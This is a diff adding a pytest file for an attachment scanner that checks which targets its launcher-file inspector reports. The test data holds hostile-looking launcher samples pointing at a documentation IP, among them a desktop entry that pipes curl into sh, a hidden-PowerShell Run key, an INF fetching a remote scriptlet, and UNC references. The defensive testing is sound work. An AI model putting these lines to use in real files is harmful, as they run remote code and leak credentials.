@@ -1,0 +1,83 @@
+"""Launchers: the finding says what is started or fetched."""
+
+from __future__ import annotations
+
+import pytest
+
+from attachguard.filetypes import filetype
+from attachguard.formats import launchers
+from attachguard.limits import Budget, Limits
+from attachguard.part import Part
+from tests.fixtures.launchers import SAMPLES
+
+
+def found(kind, data):
+    part = Part(f"a.{kind}", data, role="attachment", budget=Budget(Limits()))
+    part.load()
+    part.types = [filetype(kind)]
+    return [(fact.code, fact.detail) for fact in launchers.inspect(part)]
+
+
+@pytest.mark.parametrize(
+    ("sample", "kind", "expected"),
+    [
+        ("link/seite.url", "url", [
+            ("script-content", "Internet shortcut: https://www.example.org/"),
+            ("external-reference", "Internet shortcut: https://www.example.org/"),
+        ]),
+        ("network/seite.url", "url", [
+            ("script-content", "Internet shortcut: file://198.51.100.7/x/a.exe"),
+            ("external-reference", "Internet shortcut: file://198.51.100.7/x/a.exe"),
+            ("external-reference", r"Internet shortcut: \\198.51.100.7\x\a.ico"),
+        ]),
+        ("icon/ordner.scf", "scf", [
+            ("script-content", "Explorer command: 2"),
+            ("script-content", "Explorer command: ToggleDesktop"),
+            ("external-reference", r"Explorer command: \\198.51.100.7\x\a.ico"),
+        ]),
+        ("entry/programm.desktop", "desktop", [("script-content", "Desktop entry: sh -c 'curl http://198.51.100.7/a | sh'")]),
+        ("query/abfrage.iqy", "iqy", [
+            ("script-content", "Office web query: https://198.51.100.7/a.dat"),
+            ("external-reference", "Office web query: https://198.51.100.7/a.dat"),
+        ]),
+        ("key/start.reg", "reg", [("script-content", 'Registry entries: sets Run: "x"="powershell -w hidden"')]),
+        ("library/bilder.library-ms", "library-ms", [
+            ("script-content", r"Windows library: \\198.51.100.7\x"),
+            ("external-reference", r"Windows library: \\198.51.100.7\x"),
+        ]),
+        ("settings/a.settingcontent-ms", "settingcontent-ms", [
+            ("script-content", r"Windows settings shortcut: %windir%\system32\cmd.exe /c calc.exe"),
+        ]),
+        ("remote/arbeitsplatz.rdp", "rdp", [
+            ("script-content", "Remote desktop connection: 198.51.100.7"),
+            ("script-content", "Remote desktop connection: shares clipboard, drives"),
+            ("external-reference", "Remote desktop connection: 198.51.100.7"),
+        ]),
+    ],
+)  # fmt: skip
+def test_the_target_is_the_detail(sample, kind, expected):
+    assert found(kind, SAMPLES[sample]()) == expected
+
+
+@pytest.mark.parametrize(
+    ("kind", "data", "target"),
+    [
+        ("search-ms", b'<persistedQuery><query><scope><include path="\\\\198.51.100.7\\x"/></scope></query></persistedQuery>', r"\\198.51.100.7\x"),
+        ("theme", b"[Control Panel\\Desktop]\r\nWallpaper=\\\\198.51.100.7\\x.jpg\r\n", r"\\198.51.100.7\x.jpg"),
+        ("jnlp", b'<jnlp spec="1.0+" codebase="https://198.51.100.7/"><resources/></jnlp>', "https://198.51.100.7/"),
+        ("appref-ms", "\ufeffhttps://198.51.100.7/a.application#a, Culture=neutral".encode("utf-16-le"), "https://198.51.100.7/a.application"),
+        ("inf", b"[DefaultInstall]\r\nUnRegisterOCXs=x\r\n[xSection]\r\n%11%\\scrobj.dll,NI,http://198.51.100.7/a.sct\r\n", "http://198.51.100.7/a.sct"),
+    ],
+)  # fmt: skip
+def test_a_host_in_it_is_a_reference(kind, data, target):
+    assert target in [detail.partition(": ")[2] for code, detail in found(kind, data) if code == "external-reference"]
+
+
+def test_a_theme_with_local_paths_only_names_nothing():
+    assert found("theme", b"[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\img0.jpg\r\n") == []
+
+
+def test_long_and_unprintable_targets_are_cut():
+    ((_, detail),) = found("desktop", b"Exec=\x1b[2J" + b"a" * 500)
+    assert len(detail) < 110
+    assert detail.isprintable()
